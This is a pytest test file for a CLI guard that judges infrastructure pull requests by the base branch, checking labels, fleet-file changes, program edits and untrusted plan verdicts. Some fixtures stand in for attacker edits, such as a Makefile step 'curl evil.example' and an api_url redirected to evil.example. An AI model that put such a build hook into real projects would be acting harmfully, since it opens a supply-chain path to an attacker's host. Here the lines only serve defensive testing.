"""A pull request judged by the branch that it goes to: `comment` in the base's checkout, the request read from git."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pytest
from typer.testing import CliRunner

from meltanodata.cli.main import app
from meltanodata.errors import UserError
from meltanodata.rollout import preview_plan
from meltanodata.rollout.guard import Review
from tests.fakes import github
from tests.previews import Step, created, destroyed, preview, renewed
from tests.unit.cli.project import SETTINGS, TWO_STACKS, Project, rev, run

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from typer.testing import Result

    from tests.fakes.github import Server

DATA_LOSS, UNNAMED, PROGRAM = "guard:data-loss", "guard:unnamed-tenants", "guard:program-changed"


class Request:
    """A pull request to a repository with a fleet of two, and GitHub behind it."""

    def __init__(self, project: Project, hub: Server) -> None:
        self.project, self.hub = project, hub
        self.plans: dict[str, str | bytes] = {}

    def plan(self, *steps: Step, stack: str = "prod", stops: object = ()) -> None:
        """What the request's own code wrote in its preview; it may write what it likes."""
        text = (
            Review(plan=preview_plan.read(preview(*steps)))
            .model_dump_json()
            .replace("pulumi:prod:", f"pulumi:{stack}:")
        )
        content = json.loads(text) | {"stops": stops}
        content["plan"]["stack"] = stack
        self.plans[stack] = json.dumps(content)

    def judged(self, *labels: str) -> Result:
        """Commit what was edited, and let the base branch's job judge it."""
        git = self.project.git
        git("add", "--all")
        git("commit", "--quiet", "--allow-empty", "--message", "A change")
        head = rev(self.project, "HEAD")
        git("switch", "--quiet", "main")
        self.hub.pull(7, head, list(labels))
        running = self.hub.run(head)
        for stack, content in self.plans.items():
            self.hub.upload(running, f"plan-{stack}", content.encode() if isinstance(content, str) else content)
        arguments = ["--base", "HEAD", "--head", head, "--pull-request", "7", "--run", str(running)]
        result = CliRunner().invoke(app, ["comment", *arguments])
        git("switch", "--quiet", "change")
        return result

    @property
    def comment(self) -> str:
        (body,) = (it["body"] for it in self.hub.comments)
        return str(body)


@pytest.fixture
def request_(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Request]:
    folder = tmp_path / "project"
    folder.mkdir()
    monkeypatch.chdir(folder)
    with github.serve() as hub:
        for name, value in {"REPOSITORY": github.REPOSITORY, "TOKEN": github.TOKEN, "API_URL": hub.url}.items():
            monkeypatch.setenv(f"GITHUB_{name}", value)
        yield Request(Project(folder), hub)


def test_a_request_for_one_tenant_passes(request_: Request) -> None:
    request_.project.fleet("acme", "bolt", "core")
    request_.plan(*created("core"))
    result = request_.judged()
    assert (result.exit_code, result.stdout) == (0, request_.comment)
    assert "MeltanoData DBs 1 2 → 3 of 60 databases" in request_.comment
    assert "CAUTION" not in request_.comment


def test_the_verdict_of_the_requests_own_code_is_not_believed(request_: Request) -> None:
    request_.project.fleet("acme")
    request_.plan(*destroyed("bolt"), stops=[{"label": DATA_LOSS, "message": "reviewed by @boss", "allowed": True}])
    result = request_.judged()
    assert result.exit_code == 3
    assert f"add the label {DATA_LOSS} to the pull request" in request_.comment
    assert "@boss" not in request_.comment
    assert request_.judged(DATA_LOSS).exit_code == 0
    assert f"Allowed by the label {DATA_LOSS}" in request_.comment


def test_a_label_with_a_blank_in_it_is_one_label(request_: Request) -> None:
    request_.project.fleet("acme")
    request_.plan(*destroyed("bolt"))
    assert request_.judged(f"blocked {DATA_LOSS}").exit_code == 3


def test_a_misspelt_label_is_told_in_the_comment(request_: Request) -> None:
    request_.project.fleet("acme", "bolt", "core")
    request_.plan(*created("core"))
    result = request_.judged("guard:dataloss")
    assert isinstance(result.exception, UserError)
    assert "guard:dataloss: the guard has no such label" in request_.comment


PROGRAM_EDITS = {
    "meltanodata/rollout/guard.py": "def review(*_, **__): ...",
    "yaml.py": "# takes the library's place",
    "requirements.lock": "pulumi==0.0.1",
    "Makefile": "setup:\n\tcurl evil.example",
    ".github/workflows/preview.yml": "on: pull_request",
    "Pulumi.prod.yaml": SETTINGS + "  meltanodata:region: ams3\n",
}


@pytest.mark.parametrize("file", PROGRAM_EDITS)
def test_what_decides_about_plans_is_named_and_wants_a_label_of_its_own(request_: Request, file: str) -> None:
    request_.project.write(file, PROGRAM_EDITS[file])
    request_.plan()  # whatever the changed program says
    result = request_.judged()
    assert result.exit_code == 3
    assert file in request_.comment
    assert f"add the label {PROGRAM} to the pull request" in request_.comment
    assert request_.judged(DATA_LOSS, UNNAMED).exit_code == 3
    assert request_.judged(PROGRAM).exit_code == 0
    assert file in request_.comment


def test_documentation_wants_no_label(request_: Request) -> None:
    request_.project.write("docs/new.md", "Hello")
    request_.project.write("README.md", "Hello")
    assert request_.judged().exit_code == 0
    assert request_.hub.comments == []


def test_the_settings_that_decide_who_looks_at_what_are_shown_with_their_values(request_: Request) -> None:
    more = '  meltanodata:api_url: "https://evil.example"\n  meltanodata:guard: {destroyed: 99}\n'
    request_.project.write("Pulumi.prod.yaml", SETTINGS + more + "  meltanodata:tokens: {Meltano: {secure: v1:abc}}\n")
    request_.plan()
    assert request_.judged(PROGRAM).exit_code == 0
    comment = request_.comment.replace("\N{WORD JOINER}", "").replace("\\", "")
    assert (
        "Pulumi.prod.yaml (api_url: its default → https://evil.example, guard: its default → {'destroyed': 99}"
        in comment
    )
    assert "tokens" in comment
    assert "v1:abc" not in comment


def test_a_request_cannot_raise_its_own_thresholds(request_: Request) -> None:
    request_.project.write(
        "Pulumi.prod.yaml", SETTINGS + "  meltanodata:guard: {destroyed: 99, destroyed_percent: 100}\n"
    )
    request_.project.fleet("core")
    request_.plan(*destroyed("acme"), *destroyed("bolt"))
    result = request_.judged(PROGRAM, DATA_LOSS)
    assert result.exit_code == 3
    assert "guard:many-destroyed" in request_.comment


@pytest.mark.parametrize("how", ["renamed", "moved by a setting", "gone", "a link"])
def test_where_the_fleet_file_is_another_one_nobody_is_named(request_: Request, how: str) -> None:
    project = request_.project
    if how == "renamed":
        project.git("mv", "tenants.yaml", "customers.yaml")
    if how == "moved by a setting":
        project.write("customers.yaml", "acme: {database_team: MeltanoData DBs 1}\n")
    if how in {"renamed", "moved by a setting"}:
        project.write("Pulumi.prod.yaml", SETTINGS + "  meltanodata:tenants_file: customers.yaml\n")
    if how == "gone":
        project.git("rm", "--quiet", "tenants.yaml")
    if how == "a link":
        (project.folder / "tenants.yaml").unlink()
        (project.folder / "tenants.yaml").symlink_to("docs/tenants.yaml")
    request_.plan(*renewed("acme"), *destroyed("bolt"))
    result = request_.judged(PROGRAM, DATA_LOSS)
    if how in {"gone", "a link"}:
        # There is nothing that the plan could be compared with: it cannot be judged at all.
        assert result.exit_code != 0
        assert ("there is no such file" if how == "gone" else "cannot be judged") in request_.comment
        return
    assert result.exit_code == 3
    assert "2 tenants that the pull request does not name: acme, bolt" in request_.comment
    assert "customers.yaml instead of tenants.yaml" in request_.comment
    assert request_.judged(PROGRAM, DATA_LOSS, UNNAMED).exit_code == 0


def test_a_renamed_fleet_file_is_compared_with_what_it_was(request_: Request) -> None:
    project = request_.project
    project.git("mv", "tenants.yaml", "customers.yaml")
    project.write("Pulumi.prod.yaml", SETTINGS + "  meltanodata:tenants_file: customers.yaml\n")
    project.write("customers.yaml", "acme:\n  database_team: MeltanoData DBs 2\n")
    project.commit()
    assert run("stacks", "--base", "main").stdout == "prod\n"
    assert "acme" in str(run("check", "--base", "main").exception)


def test_a_stack_that_the_request_touches_has_a_plan_or_the_check_fails(request_: Request) -> None:
    request_.project.fleet("acme")
    result = request_.judged(DATA_LOSS)
    assert "### ❌ `prod`: there is no plan. The preview failed or did not run" in request_.comment
    assert "No tenant changes" not in request_.comment
    assert "prod: there is no plan" in str(result.exception)


def test_an_older_comment_does_not_outlive_its_plan(request_: Request) -> None:
    request_.project.fleet("acme")
    request_.plan(*destroyed("bolt"))
    request_.judged()
    assert "🚨" in request_.comment
    request_.plans.clear()
    request_.judged()
    assert "🚨" not in request_.comment
    assert "there is no plan" in request_.comment
    request_.project.fleet("acme", "bolt")
    request_.judged()
    assert "No tenant changes." in request_.comment


@pytest.mark.parametrize("plan", ["", "<html>", "{}", '{"plan": {"stack": "prod-2"}}'])
def test_a_plan_that_is_none_fails_the_check(request_: Request, plan: str) -> None:
    request_.project.fleet("acme")
    request_.plans["prod"] = plan
    result = request_.judged(DATA_LOSS)
    assert isinstance(result.exception, UserError)
    assert "### ❌ `prod`: " in request_.comment


def test_which_stacks_are_touched_is_not_the_requests_to_say(request_: Request) -> None:
    """It takes a stack out of the fleet by its API's address: its own `stacks --base` does not name it any more."""
    request_.project.write("Pulumi.prod-2.yaml", TWO_STACKS)
    request_.project.commit()
    request_.project.git("branch", "--force", "main", "change")
    request_.project.write("Pulumi.prod-2.yaml", TWO_STACKS + '  meltanodata:api_url: "https://evil.example"\n')
    assert run("stacks", "--base", "main").stdout == "prod-2\n"
    request_.judged(PROGRAM)
    assert "### ❌ `prod-2`: there is no plan" in request_.comment


def test_a_stack_whose_settings_are_removed_is_told_with_what_stays(request_: Request) -> None:
    project = request_.project
    project.write("Pulumi.prod-2.yaml", TWO_STACKS)
    project.write(
        "tenants.yaml", "acme: {database_team: MeltanoData DBs 1}\nbolt: {database_team: MeltanoData DBs 2}\n"
    )
    project.commit()
    project.git("branch", "--force", "main", "change")
    project.git("rm", "--quiet", "Pulumi.prod-2.yaml")
    project.write("tenants.yaml", "acme: {database_team: MeltanoData DBs 1}\n")
    project.commit()
    listed = run("stacks", "--base", "main", "--json")
    assert json.loads(listed.stdout) == []
    assert "prod-2: its settings are removed, so it has no plan" in listed.stderr
    assert request_.judged().exit_code == 3
    assert "1 tenant (bolt) by the previous fleet file" in request_.comment
    assert "Pulumi.prod-2.yaml (removed)" in request_.comment


def test_a_request_that_cannot_be_read_is_said_and_fails(request_: Request) -> None:
    request_.project.write("tenants.yaml", "acme: [\n")
    result = request_.judged()
    assert isinstance(result.exception, UserError)
    assert "The pull request's changes cannot be judged" in request_.comment
    assert "tenants.yaml" in request_.comment


def test_a_request_that_has_moved_on_keeps_its_newer_comment(request_: Request) -> None:
    request_.project.fleet("acme")
    request_.project.commit()
    request_.hub.pull(7, "f" * 40)
    result = run(
        "comment", "--base", "main", "--head", rev(request_.project, "HEAD"), "--pull-request", "7", "--run", "1"
    )
    assert "Pull request 7 is at ffffffffffff" in str(result.exception)
    assert request_.hub.comments == []


def test_what_happened_on_the_base_since_is_not_the_requests_doing(request_: Request) -> None:
    project = request_.project
    project.fleet("acme", "bolt", "core")
    project.commit()
    project.git("switch", "--quiet", "main")
    project.write("meltanodata/program/tenant.py", "# newer")
    project.commit()
    project.git("switch", "--quiet", "change")
    request_.plan(*created("core"))
    assert request_.judged().exit_code == 0


def test_what_the_merge_takes_back_is_told_although_the_branch_had_it_never(request_: Request) -> None:
    """Main has merged the branch, and the branch an older main, without a change of it: it begins at two points."""
    project = request_.project
    git = project.git
    project.write("README.md", "A change that is reviewed.")
    with pytest.MonkeyPatch.context() as clock:
        clock.setenv("GIT_COMMITTER_DATE", "2040-01-01T00:00:00Z")  # git takes the newest beginning for the one
        project.commit()
    git("switch", "--quiet", "main")
    project.write("meltanodata/guard.py", "# mended")
    project.fleet("acme", "bolt", "core")
    project.commit()
    mended = rev(project, "HEAD")
    git("merge", "--quiet", "--no-ff", "--message", "The first request", "change")
    git("switch", "--quiet", "change")
    git("merge", "--quiet", "--no-ff", "--no-commit", mended)
    (project.folder / "meltanodata/guard.py").unlink()
    project.fleet("acme", "bolt")
    result = request_.judged()
    assert "program (meltanodata/guard.py)" in request_.comment
    assert "`prod`: there is no plan" in request_.comment
    assert result.exit_code == 1


def test_an_edit_of_a_file_that_has_become_the_programs_is_one_of_the_program(request_: Request) -> None:
    project = request_.project
    lines = "".join(f"line {number}\n" for number in range(30))
    project.git("switch", "--quiet", "main")
    project.write("bench/prices.py", lines)
    project.commit()
    project.git("branch", "--force", "change")
    project.git("mv", "bench/prices.py", "prices.py")
    project.commit()
    project.git("switch", "--quiet", "change")
    project.write("bench/prices.py", lines + "evil\n")
    request_.plan()  # whatever the changed program says
    assert request_.judged().exit_code == 3
    assert "program (prices.py)" in request_.comment


def test_a_request_that_conflicts_with_its_base_is_told_to_merge_that(request_: Request) -> None:
    project = request_.project
    project.git("switch", "--quiet", "main")
    project.fleet("acme", "bolt", "core")
    project.commit()
    project.git("switch", "--quiet", "change")
    project.fleet("acme", "bolt", "dune")
    result = request_.judged()
    assert isinstance(result.exception, UserError)
    assert "resolve the conflicts, and push" in request_.comment


def test_a_fleet_file_that_goes_to_a_folder_of_its_own_is_read_there(request_: Request) -> None:
    """The folder is on the branch alone: the base is checked out."""
    (request_.project.folder / "tenants.yaml").unlink()
    keys = ("acme", "bolt", "core")
    request_.project.write(
        "fleet/tenants.yaml", "".join(f"{key}:\n  database_team: MeltanoData DBs 1\n" for key in keys)
    )
    request_.project.write("Pulumi.prod.yaml", SETTINGS + "  meltanodata:tenants_file: fleet/tenants.yaml\n")
    request_.plan(*created("core"))
    assert request_.judged(PROGRAM, UNNAMED).exit_code == 0
    assert "https://core.meltanodata.com" in request_.comment


def test_an_edit_of_what_a_link_of_the_program_leads_to_is_one_of_the_program(request_: Request) -> None:
    project = request_.project
    project.git("switch", "--quiet", "main")
    project.write("docs/prices.py", "")
    project.write("meltanodata/__init__.py", "")
    (project.folder / "meltanodata/prices.py").symlink_to("../docs/prices.py")
    project.commit()
    project.git("branch", "--force", "change")
    project.git("switch", "--quiet", "change")
    project.write("docs/prices.py", "# evil")
    request_.plan()  # whatever the changed program says
    assert request_.judged().exit_code == 3
    assert "program (docs/prices.py)" in request_.comment


@pytest.mark.parametrize("file", ["tenants.yaml", "Pulumi.prod.yaml"])
def test_what_is_judged_is_a_file_and_no_link(request_: Request, file: str) -> None:
    """Later edits of where it leads would be edits of the documentation."""
    folder = request_.project.folder
    (folder / "docs").mkdir()
    (folder / file).rename(folder / "docs/file")
    (folder / file).symlink_to("docs/file")
    request_.plan()
    result = request_.judged(PROGRAM)
    assert isinstance(result.exception, UserError)
    assert "it is a symbolic link" in request_.comment
    assert "Keep the file itself here" in request_.comment


def test_a_project_in_a_larger_repository_is_judged_by_its_own_files_and_the_workflows(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "infrastructure").mkdir()
    project = Project(tmp_path)
    for name in ("Pulumi.yaml", "Pulumi.prod.yaml", "tenants.yaml"):
        project.git("mv", name, f"infrastructure/{name}")
    project.commit()
    project.git("tag", "base")
    monkeypatch.chdir(tmp_path / "infrastructure")
    project.write("website/index.html", "Hello")
    project.commit()
    assert run("comment", "--base", "base", "--head", "HEAD").stdout.endswith("No tenant changes.\n")
    project.write(".github/workflows/preview.yml", "on: push")
    project.write("infrastructure/meltanodata/rollout/guard.py", "# nothing")
    project.write("infrastructure/tenants.yaml", "acme: {database_team: MeltanoData DBs 1}\n")
    project.commit()
    text = run("comment", "--base", "base", "--head", "HEAD").stdout
    assert "program (meltanodata/rollout/guard.py); workflows (../.github/workflows/preview.yml)." in text
    assert "### ❌ `prod`: there is no plan" in text


def test_the_first_push_of_a_branch_touches_all_stacks(request_: Request) -> None:
    request_.project.write("Pulumi.prod-2.yaml", TWO_STACKS)
    assert json.loads(run("stacks", "--base", "0" * 40, "--json").stdout) == ["prod", "prod-2"]
